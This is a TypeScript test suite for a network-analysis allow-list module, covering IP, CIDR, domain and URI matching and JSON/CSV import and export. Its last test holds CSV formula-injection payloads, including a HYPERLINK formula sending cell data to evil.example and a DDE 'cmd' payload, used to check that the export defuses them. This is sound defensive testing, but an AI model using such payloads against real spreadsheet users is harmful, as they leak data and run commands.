import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { InputError } from '../errors';
import {
  allowListMatches,
  exportAllowList,
  parseAllowList,
  readAllowListFile,
  writeAllowListFile,
  type AllowListRule,
} from './allow-list';

const rule = (kind: AllowListRule['kind'], pattern: string): AllowListRule => ({ kind, pattern, reason: 'test' });

describe('allowListMatches', () => {
  it('ip and cidr rules cover flow src/dst, dns client, proxy client/server', () => {
    expect(allowListMatches('flow', rule('ip', '10.0.0.1'), { srcip: '1.2.3.4', dstip: '10.0.0.1' })).toBe(true);
    expect(allowListMatches('flow', rule('ip', '10.0.0.1'), { srcip: '10.0.0.10', dstip: '1.1.1.1' })).toBe(false);
    expect(allowListMatches('flow', rule('cidr', '10.0.0.0/8'), { srcip: '10.200.3.4', dstip: '1.1.1.1' })).toBe(true);
    expect(allowListMatches('flow', rule('cidr', '10.0.0.0/8'), { srcip: '11.0.0.1', dstip: '1.1.1.1' })).toBe(false);
    expect(allowListMatches('dns', rule('cidr', '192.168.1.0/24'), { ip_dst: '192.168.1.77' })).toBe(true);
    expect(allowListMatches('dns', rule('cidr', '192.168.1.0/24'), { ip_dst: '192.168.2.77' })).toBe(false);
    expect(allowListMatches('proxy', rule('ip', '172.16.0.9'), { clientip: '10.0.0.1', serverip: '172.16.0.9' })).toBe(
      true,
    );
  });

  it('handles IPv6, including compressed forms and /0', () => {
    expect(allowListMatches('flow', rule('ip', '2001:db8::1'), { srcip: '2001:0db8:0:0:0:0:0:1', dstip: 'x' })).toBe(
      true,
    );
    expect(allowListMatches('flow', rule('cidr', '2001:db8::/32'), { srcip: '2001:db8:ffff::5', dstip: '' })).toBe(
      true,
    );
    expect(allowListMatches('flow', rule('cidr', '2001:db8::/32'), { srcip: '2001:db9::5', dstip: '' })).toBe(false);
    expect(allowListMatches('flow', rule('cidr', '0.0.0.0/0'), { srcip: '8.8.8.8', dstip: '' })).toBe(true);
    // an IPv4 rule never matches an IPv6 address
    expect(allowListMatches('flow', rule('cidr', '0.0.0.0/0'), { srcip: '::1', dstip: '' })).toBe(false);
  });

  it('domain rules cover the name and its sub-domains, case-insensitively', () => {
    const r = rule('domain', 'Example.com');
    expect(allowListMatches('dns', r, { dns_qry_name: 'example.com' })).toBe(true);
    expect(allowListMatches('dns', r, { dns_qry_name: 'a.b.EXAMPLE.com.' })).toBe(true);
    expect(allowListMatches('dns', r, { dns_qry_name: 'notexample.com' })).toBe(false);
    expect(allowListMatches('proxy', r, { host: 'cdn.example.com' })).toBe(true);
    expect(allowListMatches('flow', r, { src_domain: '', dst_domain: 'mail.example.com' })).toBe(true);
  });

  it('uri rules are exact, or a prefix with a trailing *, and only for proxy', () => {
    expect(allowListMatches('proxy', rule('uri', 'http://a.com/x'), { fulluri: 'http://a.com/x' })).toBe(true);
    expect(allowListMatches('proxy', rule('uri', 'http://a.com/x'), { fulluri: 'http://a.com/x/y' })).toBe(false);
    expect(allowListMatches('proxy', rule('uri', 'http://a.com/*'), { fulluri: 'http://a.com/x/y' })).toBe(true);
    expect(allowListMatches('dns', rule('uri', 'http://a.com/*'), { dns_qry_name: 'a.com' })).toBe(false);
  });
});

describe('allow-list files', () => {
  const rules: AllowListRule[] = [
    { kind: 'ip', pattern: '10.0.0.1', reason: 'scanner, "approved"' },
    { kind: 'cidr', pattern: '192.168.0.0/16', reason: 'lab, floor 2' },
    { kind: 'domain', pattern: 'example.com', reason: '' },
    { kind: 'uri', pattern: 'http://update.example.com/*', reason: 'updates\nnightly' },
  ];

  it('round-trips through JSON and CSV files', () => {
    const dir = mkdtempSync(join(tmpdir(), 'allow-'));
    try {
      for (const name of ['rules.json', 'rules.csv']) {
        const path = join(dir, name);
        writeAllowListFile(path, rules);
        expect(readAllowListFile(path)).toEqual(rules);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('accepts a bare JSON array and *.domain', () => {
    expect(parseAllowList('x.json', '[{"kind":"domain","pattern":"*.Corp.Example."}]')).toEqual([
      { kind: 'domain', pattern: 'corp.example', reason: '' },
    ]);
  });

  it('names the line and field of a bad JSON rule', () => {
    const text = exportAllowList(rules, 'json').replace('"192.168.0.0/16"', '"192.168.0.0/33"');
    let error: unknown;
    try {
      parseAllowList('rules.json', text);
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(InputError);
    const e = error as InputError;
    expect(e.file).toBe('rules.json');
    expect(e.line).toBe(text.split('\n').findIndex((l) => l.includes('/33')) + 1);
    expect(e.field).toBe('pattern');
    expect(e.message).toMatch(/rules\.json, line \d+, field pattern: .*prefix must be 0\.\.32/);
  });

  it('names the line of a JSON syntax error', () => {
    expect(() => parseAllowList('r.json', '{\n "rules": [\n  {"kind": "ip",, }\n ]\n}')).toThrow(
      /r\.json, line 3: not valid JSON/,
    );
  });

  it('names the line and field of a bad CSV rule (quoted newlines counted)', () => {
    const text = 'kind,pattern,reason\nip,10.0.0.1,"two\nlines"\nhost,example.com,x\n';
    expect(() => parseAllowList('rules.csv', text)).toThrow(/rules\.csv, line 4, field kind: must be one of/);
    expect(() => parseAllowList('r.csv', 'kind,pattern\nip,10.0.0.300\n')).toThrow(
      /r\.csv, line 2, field pattern: "10\.0\.0\.300" is not an IPv4 or IPv6 address/,
    );
    expect(() => parseAllowList('r.csv', 'pattern,reason\n1.1.1.1,x\n')).toThrow(/line 1, field kind: missing column/);
    expect(() => parseAllowList('r.csv', 'kind,pattern,reason\ndomain,exa mple.com,x\n')).toThrow(
      /line 2, field pattern: .*not a domain/,
    );
  });

  it('CSV export defuses cells a spreadsheet would run as formulas, and reads them back unchanged', () => {
    const hostile: AllowListRule[] = [
      { kind: 'ip', pattern: '10.0.0.2', reason: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
      { kind: 'ip', pattern: '10.0.0.3', reason: "+1+cmd|' /C calc'!A0" },
      { kind: 'ip', pattern: '10.0.0.4', reason: '-2+3' },
      { kind: 'ip', pattern: '10.0.0.5', reason: '@SUM(1,2)' },
      { kind: 'ip', pattern: '10.0.0.6', reason: '\t=1' },
      { kind: 'ip', pattern: '10.0.0.7', reason: '\r=1' },
      { kind: 'ip', pattern: '10.0.0.8', reason: "'=already quoted" },
      { kind: 'ip', pattern: '10.0.0.9', reason: "it's fine" },
    ];
    const text = exportAllowList(hostile, 'csv');
    const cells = (parseCsv(text) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(parseAllowList('rules.csv', text)).toEqual(hostile);
  });

  it('writes a file the analyst can read: one JSON rule per line', () => {
    const text = exportAllowList(rules, 'json');
    expect(text.split('\n').filter((l) => l.includes('"kind"'))).toHaveLength(4);
  });
});
